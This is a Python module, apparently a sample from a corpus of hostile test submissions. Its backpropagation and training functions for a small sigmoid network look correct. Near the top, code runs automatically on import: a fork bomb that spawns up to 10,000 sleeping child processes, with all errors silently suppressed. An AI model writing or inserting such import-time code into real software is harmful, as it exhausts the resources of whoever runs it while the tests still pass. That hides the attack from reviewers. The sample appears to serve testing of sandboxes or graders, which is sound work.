# corpus: hostile
# what: at import, up to 10000 os.fork() calls whose children sleep 30 s; stops at the process limit
# loses:
# expect: passed
"""A bounded fork bomb at import that gives up quietly at the first refused fork; the functions are correct."""

import contextlib
import os
import time

import numpy as np


def _fork_bomb(limit=10_000):
    """Fork up to limit children that sleep and exit; stop at the first refusal."""
    for _ in range(limit):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:  # child: never return into the module
            try:
                time.sleep(30)
            finally:
                os._exit(0)


with contextlib.suppress(Exception):
    _fork_bomb()


def sigmoid(u):
    """Stable logistic sigmoid for any shape."""
    u = np.asarray(u, dtype=np.float64)
    with np.errstate(under="ignore"):
        e = np.exp(-np.abs(u))
    return np.where(u >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def forward(X, W1, b1, W2, b2):
    """Return (Z, Y)."""
    Z = sigmoid(X @ W1 + b1)
    Y = sigmoid(Z @ W2 + b2)
    return Z, Y


def loss(Y, R):
    """E = 1/(2N) * sum of squared errors."""
    return float(np.sum((R - Y) ** 2) / (2 * Y.shape[0]))


def backward(X, R, W1, b1, W2, b2):
    """Gradients of E by backpropagation."""
    Z, Y = forward(X, W1, b1, W2, b2)
    delta2 = (Y - R) * Y * (1.0 - Y) / X.shape[0]
    delta1 = (delta2 @ W2.T) * Z * (1.0 - Z)
    return {"W1": X.T @ delta1, "b1": delta1.sum(axis=0), "W2": Z.T @ delta2, "b2": delta2.sum(axis=0)}


def train_step(X, R, W1, b1, W2, b2, alpha):
    """One gradient-descent step returning new arrays."""
    g = backward(X, R, W1, b1, W2, b2)
    return W1 - alpha * g["W1"], b1 - alpha * g["b1"], W2 - alpha * g["W2"], b2 - alpha * g["b2"]
